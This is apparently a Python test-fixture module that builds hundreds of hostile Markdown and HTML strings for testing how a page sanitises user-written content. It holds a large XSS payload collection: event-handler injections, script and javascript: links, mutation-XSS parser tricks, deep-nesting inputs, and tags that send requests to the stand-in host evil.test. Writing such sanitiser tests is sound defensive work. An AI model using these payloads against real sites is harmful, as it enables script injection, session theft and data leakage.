"""Hostile texts for a page that shows what others wrote: each would run a script or send a request as HTML.

A script that runs calls `pwned(NUMBER)`; a request goes to `https://evil.test/NUMBER`. In the vectors below `JS`
stands for that call, `URL` for that address, and `ID` for the number.
"""

from __future__ import annotations

from itertools import cycle, islice

HANDLERS = (
    "<img src=x onerror=JS>", "<img src=x oNeRrOr=JS>", "<img/src=x/onerror=JS>", "<img src=x onerror='JS'//",
    "<img\tsrc=x\nonerror=JS\n>", '"><img src=x onerror=JS>', "'><img src=x onerror=JS>", "<svg onload=JS>",
    "<svg/onload=JS>", "<body onload=JS>", "<video><source onerror=JS>", "<audio src=x onerror=JS>",
    "<input autofocus onfocus=JS>", "<select autofocus onfocus=JS>", "<textarea autofocus onfocus=JS>",
    "<details open ontoggle=JS>x", "<marquee onstart=JS>x</marquee>", "<div onmouseover=JS style='position:fixed;inset:0'>x</div>",
    "<iframe onload=JS></iframe>", "<object data=x onerror=JS></object>", "<style onload=JS></style>", "<link rel=stylesheet href=x onerror=JS>",
    "<div onpointerenter=JS style='position:fixed;inset:0'>", "<img srcset=x onerror=JS>", "<picture><source srcset=x><img onerror=JS></picture>",
    "<button popovertarget=p>x</button><div id=p popover onbeforetoggle=JS>y</div>", "<div style='animation:a 1s' onanimationstart=JS>",
    "<style>@keyframes a{}</style><b style='animation:a 1ms' onanimationend=JS>x</b>", "<p contenteditable onblur=JS autofocus>x</p>",
    "<img src=x onerror=&#112;wned(ID)>", "<img src=x onerror=\\u0070wned(ID)>", "<img src=x onerror=top['pwned'](ID)>",
)  # fmt: skip
SCRIPTS = (
    "<script>JS</script>", "<SCRIPT>JS</SCRIPT>", "<script\n>JS</script\n>", "<script/x>JS</script>", "<scr<script>ipt>JS</script>",
    "<script src=URL></script>", "<script type=module>JS</script>", "<svg><script>JS</script></svg>", "<svg><script href=URL></script></svg>",
    "<math><script>JS</script></math>", "<iframe srcdoc='<script>parent.JS</script>'></iframe>", "<iframe src=\"javascript:parent.JS\"></iframe>",
    "<object data=\"javascript:JS\"></object>", "<embed src=\"javascript:JS\">", "<template><script>JS</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=JS>\">", "<!--><script>JS</script-->", "<!--<img src=\"--><img src=x onerror=JS>\">",
    "<![CDATA[<img src=x onerror=JS>]]>", "<?xml-stylesheet href=URL?><script>JS</script>", "</textarea><script>JS</script>",
    "</title><script>JS</script>", "</style><script>JS</script>", "</code></pre><script>JS</script>", "```\n</code></pre><script>JS</script>\n```",
)  # fmt: skip
LINKS = (
    "[x](javascript:JS)", "[x](JaVaScRiPt:JS)", "[x](java\tscript:JS)", "[x](<java\nscript:JS>)", "[x](&#106;avascript:JS)",
    "[x](javascript&colon;JS)", "[x](\x01javascript:JS)", "[x](&#x1;javascript:JS)", "[x](%6Aavascript:JS)", "[x](javascript://%0aJS)",
    "[x](data:text/html,<script>opener.JS</script>)", "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)", "[x](vbscript:msgbox)",
    "[x](blob:https://evil.test/ID)", "[x](file:///etc/passwd)", "<javascript:JS>", "<data:text/html,x>", "[x]: javascript:JS\n\n[x]",
    "[x]: <javascript:JS> 'y'\n\n[click][x]", "![x](javascript:JS)", "![x](URL)", "![x][y]\n\n[y]: URL", "[![x](URL)](javascript:JS)",
    "![\"onerror=JS x=\"](URL)", "![x](URL 'y\" onerror=JS z=\"')", "[x](https://a.test 'y\" onmouseover=JS z=\"')", "[x](https://a.test/\"onmouseover=JS)",
    "[x](https://a.test/'onmouseover='JS)", "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>)", "https://a.test/\"onmouseover=JS/",
    "[<img src=x onerror=JS>](https://a.test)", "[x](https://a.test \"<img src=x onerror=JS>\")", "<a href=javascript:JS>x</a>",
    "<a href=' javascript:JS'>x</a>", "<a href='java&Tab;script:JS'>x</a>", "<a href='java&NewLine;script:JS' autofocus onfocus=JS>x</a>",
    "<a xlink:href=javascript:JS>x</a>", "<a ping=URL href=#>x</a>", "<area href=javascript:JS>", "<form action=javascript:JS><button>x</form>",
    "<form id=f></form><button form=f formaction=javascript:JS>x", "<isindex action=javascript:JS type=image>", "<base href=javascript:/a/-alert(1)///////>",
)  # fmt: skip
REQUESTS = (
    "<img src=URL>", "<img srcset='URL 1x'>", "<picture><source srcset=URL><img></picture>", "<video poster=URL>", "<audio src=URL autoplay>",
    "<video src=URL autoplay muted>", "<iframe src=URL></iframe>", "<object data=URL></object>", "<embed src=URL>", "<link rel=stylesheet href=URL>",
    "<link rel=prefetch href=URL>", "<link rel=preload as=image href=URL>", "<link rel=icon href=URL>", "<link rel=dns-prefetch href=URL>", "<style>@import 'URL';</style>",
    "<style>body{background:url(URL)}</style>", "<div style='background:url(URL)'>x</div>", "<div style=\"background:\\75rl(URL)\">x</div>",
    "<div style='list-style:url(URL);display:list-item'>x</div>", "<b style='cursor:url(URL),auto'>x</b>", "<body background=URL>", "<table background=URL><td>x</table>",
    "<input type=image src=URL>", "<svg><image href=URL /></svg>", "<svg><use href=URL#x /></svg>", "<svg><feImage href=URL /></svg>", "<svg><style>@import 'URL';</style></svg>",
    "<meta http-equiv=refresh content='0;url=URL'>", "<base href=URL>", "<track src=URL default>", "<style>@font-face{font-family:f;src:url(URL)}*{font-family:f}</style>",
    "<frameset><frame src=URL></frameset>", "<portal src=URL></portal>", "<form action=URL><input autofocus onfocus=form.submit()></form>",
    "<p style='mask:url(URL)'>x</p>", "<p style='content:url(URL)'>x</p>", "<style>li{list-style-image:url(URL)}</style>\n\n- x", "<svg><a href=URL><text>x</text></a></svg>",
    "<q cite=URL>x</q><img longdesc=URL src=URL>", "<video><track kind=captions src=URL default></video>",
)  # fmt: skip
MUTATIONS = (
    # markup that changes its meaning when it is serialised and parsed again, or moves between HTML, SVG and MathML
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=JS&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>",
    "<svg></p><style><a id=\"</style><img src=x onerror=JS>\">", "<svg><p><style><g title=\"</style><img src=x onerror=JS>\">",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=JS></style></annotation-xml></math>",
    "<svg><foreignObject><style><img src=x onerror=JS></style></foreignObject></svg>", "<svg><desc><style><img src=x onerror=JS></style></desc></svg>",
    "<math><mi><table><mi><style><img title='</style><img src=x onerror=JS>'>", "<table><td><svg><style><b title='</style><img src=x onerror=JS>'>",
    "<noembed><img title='</noembed><img src=x onerror=JS>'></noembed>", "<noframes><img title='</noframes><img src=x onerror=JS>'></noframes>",
    "<xmp><img title='</xmp><img src=x onerror=JS>'></xmp>", "<textarea><img title='</textarea><img src=x onerror=JS>'></textarea>",
    "<select><option><style><img title='</style><img src=x onerror=JS>'></select>", "<svg><title><img src=x onerror=JS></title></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s>", "<svg><set onbegin=JS attributeName=x to=y>", "<svg><a><animate attributeName=href values=javascript:JS /><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='y' onerror='JS'/></svg>#x\"/></svg>",
    "<math href=javascript:JS>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:JS>x</maction></math>", "<template shadowrootmode=open><img src=x onerror=JS></template>",
    "<div><template shadowrootmode=closed><img src=x onerror=JS></template></div>", "<p is=x-y onmouseover=JS>x</p>", "<x-element onpointerover=JS style=position:fixed;inset:0>x",
    "<form id=x><input name=attributes><input name=parentNode></form>", "<img name=createElement><img name=getElementById><form name=body>", "<a id=location href=javascript:JS></a><a id=location>x</a>",
    "<img src=x onerror=JS" + " " * 2000 + ">", "&lt;img src=x onerror=JS&gt;", "&amp;lt;script&amp;gt;JS&amp;lt;/script&amp;gt;", "\ufeff<script>JS</script>",
    "<\u200bscript>JS</\u200bscript>", "\uff1cscript\uff1eJS\uff1c/script\uff1e", "<img src=x onerror\u2028=JS>", "<img\u00a0src=x onerror=JS>", "<img src=x onerror=JS\u202e>", "\u202e>tpircs/<JS>tpircs<",
    "<svg><style>&lt;img src=x onerror=JS&gt;</style></svg>", "<a href=https://a.test><style><a title='</style><img src=x onerror=JS>'></a>",
    "<h1><svg><desc><math><mtext><img src=x onerror=JS></h1>", "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src=x onerror=JS>'></style></h1>",
)  # fmt: skip
NESTINGS = (
    "> " * 400 + "<img src=x onerror=JS>", "- " * 200 + "<script>JS</script>", "[" * 2000 + "x](javascript:JS)", "![" * 1000 + "](URL)", "*" * 3000 + "<svg onload=JS>",
    "<div>" * 600 + "<img src=x onerror=JS>", "<b><i>" * 300 + "<script>JS</script>", "<svg>" * 300 + "<script>JS</script>", "`" * 999 + "<img src=x onerror=JS>", "|" * 500 + "\n" + "|-" * 500 + "\n<img src=x onerror=JS>",
    "\n".join("  " * depth + "- <svg onload=JS>" for depth in range(60)), "#" * 50 + " <script>JS</script>", "<table>" * 200 + "<td><img src=x onerror=JS>", "\\" * 999 + "<script>JS</script>",
)  # fmt: skip
SHELLS = (
    "{}", "Look: {} thanks", "# {}", "> {}", "- {}", "1. {}", "**{}**", "| a | b |\n|---|---|\n| {} | x |", "`x` {} `y`", "```html\n{}\n```",
    "```{}\nx\n```", "~~{}~~", "[{}](https://a.test)", "![{}](https://a.test/x.png)", "- [x] {}", "text\n{}\n---", "[a]: https://a.test '{}'\n\n[a]",
    "$$ {} $$", "\\( {} \\)", "<div>\n\n{}\n\n</div>", "&#60;b&#62; {}", "{}\n\n{}",
)  # fmt: skip
"""Markdown around a vector."""
VECTORS = (*HANDLERS, *SCRIPTS, *LINKS, *REQUESTS, *MUTATIONS, *NESTINGS)
COUNT = 500


def _made(vector: str, number: int) -> str:
    text = vector.replace("JS", f"pwned({number})").replace("URL", f"https://evil.test/{number}")
    return text.replace("ID", str(number))


def hostile_markdown(count: int = COUNT) -> list[str]:
    """Return so many texts: each vector as it is, then in one piece of Markdown after another."""
    texts = [_made(vector, number) for number, vector in enumerate(VECTORS)]
    inner = cycle(vector for vector in VECTORS if vector not in NESTINGS)
    for number, (shell, vector) in enumerate(zip(cycle(SHELLS), inner, strict=False), start=len(texts)):
        if len(texts) >= count:
            break
        texts.append(_made(shell.replace("{}", vector), number))
    return texts[:count]


def hostile_lines(count: int = COUNT, length: int = 200) -> list[str]:
    """Return so many texts of one line, without control characters, for titles and tags."""
    lines = (
        "".join(c for c in " ".join(text.split()) if c.isprintable()) for text in hostile_markdown(3 * count)
    )
    return list(islice((line[:length] for line in lines if line), count))
